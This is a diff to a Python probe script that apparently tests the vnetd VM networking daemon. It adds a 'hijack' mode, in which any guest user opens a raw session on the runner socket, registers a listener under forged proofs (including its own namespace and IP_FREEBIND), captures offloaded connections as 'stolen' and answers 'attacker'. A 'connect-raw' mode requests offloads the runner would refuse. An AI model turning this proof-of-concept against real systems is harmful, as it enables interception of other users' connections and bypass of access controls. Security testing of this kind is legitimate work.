@@ -23,6 +23,24 @@ one JSON object.
   vtoe_probe.py attempts UNIX_PATH TARGET_PORT
                                     wait for a socket on UNIX_PATH and try the
                                     same on it (holding it until stdin closes)
+  vtoe_probe.py hijack RUNNER_SOCKET IP PORT PROOF...
+                                    a raw session on vnetd's runner socket (no
+                                    runner: any user of the guest can do this)
+                                    registering the listener IP:PORT once per
+                                    PROOF, sent with it: "none" (no socket),
+                                    "other-port" (a listener of its own on
+                                    IP:PORT+1), "own-netns" (a listener on
+                                    IP:PORT in a user and network namespace of
+                                    its own). Prints {"answers": [...]}, then
+                                    takes every offloaded connection vnetd
+                                    hands it: reads what comes, answers
+                                    "attacker"; when stdin closes prints
+                                    {"stolen": [what each sent]}
+  vtoe_probe.py connect-raw RUNNER_SOCKET SRC_IP:PORT DST_IP:PORT
+                                    a raw session asking vnetd to offload a
+                                    connection to DST (whatever the runner
+                                    would refuse); prints vnetd's answer and,
+                                    for a socket, what the far end sends first
 """
 import array
 import ctypes
@@ -177,6 +195,98 @@ def attempts(unix_path, target_port):
     sys.stdin.read()
 
 
+def runner_hello(path):
+    """A session on vnetd's runner socket, in whichever version it speaks."""
+    for version in (2, 1):
+        u = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+        u.settimeout(5)
+        u.connect(path)
+        u.send(bytes([1, version]))
+        try:
+            if u.recv(64) == bytes([1, version]):
+                return u
+        except OSError:
+            pass
+        u.close()
+    raise SystemExit("vnetd welcomed no version")
+
+
+def v4(ip, port):
+    return socket.inet_aton(ip) + port.to_bytes(2, "big")
+
+
+def proof_socket(kind, ip, port):
+    if kind == "none":
+        return None
+    if kind == "own-netns":
+        CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
+        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
+            raise OSError(ctypes.get_errno(), "unshare")
+        # Back to the guest's namespace for nothing: the session is made.
+    s = socket.socket()
+    s.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND: the address need not be here
+    s.bind((ip, port + 1 if kind == "other-port" else port))
+    s.listen(4)
+    return s
+
+
+def hijack(path, ip, port, proofs):
+    u = runner_hello(path)
+    answers, keep = [], []
+    for kind in proofs:
+        s = proof_socket(kind, ip, port)
+        msg = bytes([3]) + v4(ip, port)
+        if s is None:
+            u.send(msg)
+        else:
+            socket.send_fds(u, [msg], [s.fileno()])
+            keep.append(s)
+        a = u.recv(64)
+        answers.append({"proof": kind, "type": a[0], "why": a[7] if a[0] == 9 and len(a) > 7 else None})
+    print(json.dumps({"answers": answers}), flush=True)
+    stolen = []
+    u.settimeout(None)
+    while True:
+        r, _, _ = select.select([u, sys.stdin], [], [])
+        if sys.stdin in r and not sys.stdin.readline():
+            break
+        if u in r:
+            m, fds, _, _ = socket.recv_fds(u, 64, 4)
+            if not m:
+                break
+            for fd in fds:
+                c = socket.socket(fileno=fd)
+                c.settimeout(5)
+                try:
+                    stolen.append(c.recv(200).decode(errors="replace"))
+                    c.sendall(b"attacker")
+                except OSError as e:
+                    stolen.append(errno.errorcode.get(e.errno, str(e.errno)))
+                c.close()
+    print(json.dumps({"stolen": stolen}), flush=True)
+
+
+def connect_raw(path, src, dst):
+    u = runner_hello(path)
+    (sip, sport), (dip, dport) = [(a.rsplit(":", 1)[0], int(a.rsplit(":", 1)[1])) for a in (src, dst)]
+    u.send(bytes([2]) + (7).to_bytes(4, "big") + v4(sip, sport) + v4(dip, dport))
+    u.settimeout(15)
+    m, fds, _, _ = socket.recv_fds(u, 64, 4)
+    r = {"type": m[0] if m else None}
+    if m and m[0] == 4:
+        r["fallback"] = m[5]
+    if m and m[0] == 5:
+        r["failed"] = m[9]
+    if fds:
+        c = socket.socket(fileno=fds[0])
+        c.settimeout(5)
+        try:
+            r["banner"] = c.recv(200).decode(errors="replace")
+        except OSError as e:
+            r["banner_error"] = errno.errorcode.get(e.errno, str(e.errno))
+    print(json.dumps(r), flush=True)
+
+
 def main():
     mode, args = sys.argv[1], sys.argv[2:]
     if mode == "serve":
@@ -187,6 +297,10 @@ def main():
         escape(args[0], int(args[1]), int(args[2]), args[3] if len(args) > 3 else None)
     elif mode == "attempts":
         attempts(args[0], int(args[1]))
+    elif mode == "hijack":
+        hijack(args[0], args[1], int(args[2]), args[3:])
+    elif mode == "connect-raw":
+        connect_raw(args[0], args[1], args[2])
     else:
         sys.exit(__doc__)
 
